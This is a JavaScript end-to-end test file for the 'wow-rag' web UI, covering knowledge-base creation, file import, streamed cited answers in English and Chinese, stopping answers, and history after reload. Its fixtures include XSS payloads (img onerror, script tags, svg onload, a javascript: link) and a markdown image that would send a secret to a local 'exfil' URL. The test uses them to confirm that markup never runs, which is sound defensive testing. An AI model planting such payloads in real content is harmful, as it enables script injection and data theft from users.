// The whole UI against the real backend, driven through data-testid hooks only:
// create a knowledge base, drop files, watch them import, ask in English and Chinese,
// watch the answer grow, open a citation, stop a slow answer, reload and find history.
// Markup in names and document text must never run.
import { after, before, describe, test } from 'node:test'
import assert from 'node:assert/strict'
import { mkdirSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { dropFiles, openApp, sleep, startSlowUpstream, tid } from './harness.mjs'

const SHOTS = process.env.WOWRAG_SCREENSHOTS ? resolve(process.env.WOWRAG_SCREENSHOTS) : null
const XSS = '<img src=x onerror=alert(1)>'
const KB_NAME = `Handbook ${XSS}`

const FILES = [
  {
    name: 'aurora-manual.md',
    content:
      '# Aurora 3000 manual\n\nThe Aurora 3000 coffee machine brews at 93 degrees Celsius. ' +
      'Descaling is recommended every 60 days with citric acid. ' +
      'The water tank holds 1.8 litres and the grinder has 12 settings.\n',
  },
  {
    name: '熊猫咖啡机说明.txt',
    content:
      '熊猫咖啡机的保修期为两年。机器每天清洗一次冲泡头即可保持最佳风味。' +
      '如果出现漏水，请先检查水箱是否安装到位。熊猫咖啡机的额定功率为一千二百瓦。\n',
  },
  {
    // One very long sentence: the extractive answer (the default, no model) types it out
    // piece by piece for seconds, long enough to press Stop in the middle.
    name: 'borealis-kettle-plan.md',
    content:
      '# Borealis kettle service plan\n\nThe Borealis kettle service plan replaces ' +
      Array.from({ length: 160 }, (_, i) => `the spare gasket model K${i + 1}`).join(', ') +
      ' whenever a technician visits.\n',
  },
  {
    name: `${XSS}<script>alert(2)<\u200bscript>.md`,
    content:
      `The secret codeword is marmalade. ${XSS} <script>window.__xss = 1</script> ` +
      '<svg onload=alert(3)></svg> [click me](javascript:alert(4)) ' +
      '![pixel](http://127.0.0.1:9/exfil.png?secret=marmalade) The codeword opens the vault.\n',
  },
]

let backend
let browser
let page
const dialogs = []
const pageErrors = []

async function shot(name) {
  if (!SHOTS) return
  mkdirSync(SHOTS, { recursive: true })
  await page.screenshot({ path: join(SHOTS, `screenshot-${name}.png`) })
}

async function assertNothingRan() {
  const found = await page.evaluate(() => ({
    xss: window.__xss ?? 0,
    inlineScripts: document.querySelectorAll('script:not([src])').length,
    handlers: document.querySelectorAll('[onerror],[onload],[onclick]').length,
    badImages: [...document.images].filter((i) => /^(https?:)?\/\/|^x$/.test(i.getAttribute('src') ?? '')).length,
    jsLinks: [...document.querySelectorAll('a[href]')].filter((a) => /^\s*javascript:/i.test(a.getAttribute('href'))).length,
  }))
  assert.deepEqual(found, { xss: 0, inlineScripts: 0, handlers: 0, badImages: 0, jsLinks: 0 })
  assert.deepEqual(dialogs, [], 'no alert() ever ran')
}

/**
 * Asks a question and records, from inside the page, every length the answer's text had
 * while it streamed (a MutationObserver sees each repaint, however fast the stream).
 */
async function ask(question, { via = 'enter' } = {}) {
  const before = await page.locator(tid('message-assistant')).count()
  await page.evaluate((sel) => {
    window.__lengths = []
    window.__observer?.disconnect()
    window.__observer = new MutationObserver(() => {
      const all = document.querySelectorAll(sel)
      const body = all[all.length - 1]?.querySelector('.md-body')
      if (body) window.__lengths.push(body.textContent.length)
    })
    window.__observer.observe(document.body, { subtree: true, childList: true, characterData: true })
  }, tid('message-assistant'))
  await page.locator(tid('chat-input')).fill(question)
  if (via === 'enter') await page.locator(tid('chat-input')).press('Enter')
  else await page.locator(tid('chat-send')).click()
  const answer = page.locator(tid('message-assistant')).nth(before)
  await answer.waitFor()
  await page.waitForFunction(
    (sel) => [...document.querySelectorAll(sel)].pop()?.dataset.status !== 'streaming',
    tid('message-assistant'),
    { timeout: 60_000 },
  )
  const status = await answer.getAttribute('data-status')
  assert.equal(status, 'done', `answer ended as ${status}: ${await answer.innerText()}`)
  const lengths = await page.evaluate(() => {
    window.__observer.disconnect()
    return window.__lengths
  })
  return { answer, lengths }
}

describe('wow-rag web UI', () => {
  before(async () => {
    ;({ backend, browser, page } = await openApp())
    page.on('dialog', (d) => {
      dialogs.push(d.message())
      d.dismiss().catch(() => {})
    })
    page.on('pageerror', (e) => pageErrors.push(String(e)))
  })

  after(async () => {
    await browser?.close()
    await backend?.stop()
  })

  test('first launch teaches what to do, and the token does not stay in the URL', async () => {
    await page.goto(`${backend.url}/?token=${backend.token}`)
    await page.locator(tid('kb-create')).waitFor()
    assert.ok(!page.url().includes(backend.token), 'token left in the address bar')
    await page.getByText('Create a knowledge base').first().waitFor()
    await shot('welcome')
  })

  test('create a knowledge base whose name has markup', async () => {
    await page.locator(tid('kb-create')).click()
    await page.locator(tid('kb-name-input')).fill(KB_NAME)
    await page.locator(tid('kb-create-confirm')).click()
    const item = page.locator(tid('kb-item')).filter({ hasText: 'Handbook' })
    await item.waitFor()
    assert.ok((await item.innerText()).includes(XSS), 'the name shows as text')
    await item.click()
    await page.locator(tid('upload-drop')).waitFor()
    await assertNothingRan()
  })

  test('dropped files import with live status and become ready', async () => {
    await dropFiles(page, tid('upload-drop'), FILES)
    const rows = page.locator(tid('doc-row'))
    await page.waitForFunction(
      ([sel, n]) => {
        const r = [...document.querySelectorAll(sel)]
        return r.length === n && r.every((x) => x.dataset.status === 'ready')
      },
      [tid('doc-row'), FILES.length],
      { timeout: 90_000 },
    )
    assert.equal(await rows.count(), FILES.length)
    const text = await page.locator(tid('doc-row')).allInnerTexts()
    // The server may replace the characters Windows forbids in names ("<" becomes "_"); either
    // way the name is text, never markup.
    assert.ok(text.some((t) => t.includes('img src=x')), 'the markup file name shows as text')
    await shot('documents')
    await assertNothingRan()
  })

  test('an English answer streams, cites, and a citation opens its passage', async () => {
    const { answer, lengths } = await ask('What temperature does the Aurora 3000 brew at?')
    const growing = new Set(lengths.filter((n) => n > 0))
    assert.ok(growing.size >= 3, `answer grew in steps, saw lengths ${[...growing].slice(0, 10)}`)
    assert.match(await answer.innerText(), /93/)
    assert.ok((await answer.locator(tid('source-item')).count()) >= 1, 'sources shown')
    const cite = answer.locator(tid('citation')).first()
    await cite.waitFor()
    await cite.click()
    const panel = page.locator('[data-testid="source-panel"]')
    await panel.waitFor()
    assert.match(await panel.innerText(), /aurora-manual\.md/)
    assert.ok((await panel.locator('mark').count()) >= 1, 'the cited text is highlighted')
    await shot('chat')
  })

  test('a Chinese question gets a cited Chinese answer', async () => {
    // A new conversation: the backend folds a short follow-up into the previous question.
    await page.locator(tid('session-new')).click()
    await page.locator(tid('message-user')).first().waitFor({ state: 'detached' })
    const { answer } = await ask('熊猫咖啡机的保修期是多久？', { via: 'button' })
    assert.match(await answer.innerText(), /两年/)
    assert.ok((await answer.locator(tid('citation')).count()) >= 1)
  })

  test('document text with markup is shown, never run', async () => {
    const { answer } = await ask('What is the secret codeword that opens the vault?')
    const evil = answer.locator(tid('source-item')).filter({ hasText: 'img src=x' })
    await evil.first().click()
    const panel = page.locator('[data-testid="source-panel"]')
    await panel.filter({ hasText: 'marmalade' }).waitFor()
    assert.ok((await panel.innerText()).includes('<script>window.__xss = 1</script>'), 'markup shown as text')
    await sleep(300)
    await assertNothingRan()
    assert.deepEqual(pageErrors, [])
  })

  test('Stop ends a slow answer and the upstream connection closes', async () => {
    const upstream = await startSlowUpstream()
    try {
      // A refused settings change or a failed relay is a failure of this test, never a skip.
      const put = await backend.api('PUT', '/api/settings', {
        llm: { provider: 'openai_compatible', base_url: upstream.baseUrl, model: 'slow' },
      })
      assert.equal(put.status, 200, `PUT /api/settings: ${JSON.stringify(put.body)}`)
      await page.locator(tid('session-new')).click()
      await page.locator(tid('chat-input')).fill('Tell me everything about the Aurora 3000.')
      await page.locator(tid('chat-input')).press('Enter')
      const answer = page.locator(tid('message-assistant')).last()
      await page.waitForFunction(
        (sel) => {
          const all = document.querySelectorAll(sel)
          const el = all[all.length - 1]
          return el && (el.dataset.status !== 'streaming' || (el.innerText.match(/tok/g) ?? []).length >= 5)
        },
        tid('message-assistant'),
        { timeout: 30_000 },
      )
      const status = await answer.getAttribute('data-status')
      assert.equal(status, 'streaming', `the relayed answer ended as ${status}: ${await answer.innerText()}`)
      await page.locator(tid('chat-stop')).click()
      await page.waitForFunction(
        (sel) => [...document.querySelectorAll(sel)].pop()?.dataset.status === 'stopped',
        tid('message-assistant'),
      )
      const stoppedText = await answer.innerText()
      await sleep(1500)
      assert.equal(await answer.innerText(), stoppedText, 'no text after Stop')
      const deadline = Date.now() + 5000
      while (upstream.state.disconnects.length === 0 && Date.now() < deadline) await sleep(100)
      assert.ok(upstream.state.disconnects.length >= 1, 'the backend closed its upstream request')
      assert.equal(upstream.state.completed, 0)
      await page.locator(tid('chat-send')).waitFor()
    } finally {
      await backend.api('PUT', '/api/settings', { llm: { provider: 'extractive' } })
      await upstream.stop()
    }
  })

  test('Stop during an extractive answer keeps the partial answer, also after a reload', async () => {
    const question = 'Which parts does the Borealis kettle service plan replace?'
    const whole = await backend.api('POST', '/api/chat', { question })
    assert.equal(whole.status, 200, JSON.stringify(whole.body))
    await page.locator(tid('session-new')).click()
    await page.locator(tid('message-user')).first().waitFor({ state: 'detached' })
    await page.locator(tid('chat-input')).fill(question)
    await page.locator(tid('chat-input')).press('Enter')
    const answer = page.locator(tid('message-assistant')).last()
    await page.waitForFunction(
      (sel) => {
        const el = [...document.querySelectorAll(sel)].pop()
        return el && (el.dataset.status !== 'streaming' || /K\d+/.test(el.innerText))
      },
      tid('message-assistant'),
      { timeout: 30_000 },
    )
    assert.equal(await answer.getAttribute('data-status'), 'streaming', 'the answer was still typing')
    await page.locator(tid('chat-stop')).click()
    await page.waitForFunction(
      (sel) => [...document.querySelectorAll(sel)].pop()?.dataset.status === 'stopped',
      tid('message-assistant'),
    )
    const body = answer.locator('.md-body')
    const shown = (await body.innerText()).trim()
    await sleep(1000)
    assert.equal((await body.innerText()).trim(), shown, 'no text after Stop')
    const sessions = (await backend.api('GET', '/api/sessions')).body
    const saved = (await backend.api('GET', `/api/sessions/${sessions[0].id}`)).body.messages.pop()
    assert.equal(saved.role, 'assistant')
    assert.equal(saved.status, 'stopped')
    assert.ok(saved.content.length > 0, 'the partial answer was saved')
    assert.ok(saved.content.length < whole.body.answer.length, 'saved is the part before Stop, not the whole')
    assert.ok(whole.body.answer.startsWith(saved.content.trimEnd()), 'and it is the start of the answer')

    await page.reload()
    const again = page.locator(tid('message-assistant')).last()
    await again.waitFor()
    assert.equal(await again.getAttribute('data-status'), 'stopped')
    // The reload shows what was saved; what the page had shown at Stop is its start (a
    // piece or two may have been on the wire when Stop was pressed).
    const norm = (text) => text.replace(/\s+/g, ' ').trim()
    const reloaded = norm(await again.locator('.md-body').innerText())
    assert.equal(reloaded, norm(saved.content), 'the saved partial answer')
    assert.ok(reloaded.startsWith(norm(shown).replace(/,$/, '')), `shown at Stop: ${shown}`)
  })

  test('after a reload the history is there and opens', async () => {
    await page.reload()
    await page.locator(tid('session-item')).first().waitFor()
    assert.ok((await page.locator(tid('session-item')).count()) >= 3)
    await page.locator(tid('session-item')).last().click()
    await page.locator(tid('message-user')).filter({ hasText: 'Aurora 3000 brew' }).waitFor()
    assert.ok((await page.locator(tid('message-assistant')).count()) >= 1)
    await assertNothingRan()
  })

  test('settings open, and dark mode is a switch away', async () => {
    await page.locator(tid('settings-open')).click()
    await page.locator('[data-testid="settings-provider"]').waitFor()
    await sleep(500) // let the dialog finish fading in
    await shot('settings')
    await page.keyboard.press('Escape')
    if (SHOTS) {
      await page.evaluate(() => document.documentElement.classList.add('dark'))
      await page.locator(tid('citation')).first().click()
      await sleep(500) // the side panel slides in
      await shot('dark')
      await page.evaluate(() => document.documentElement.classList.remove('dark'))
    }
  })
})
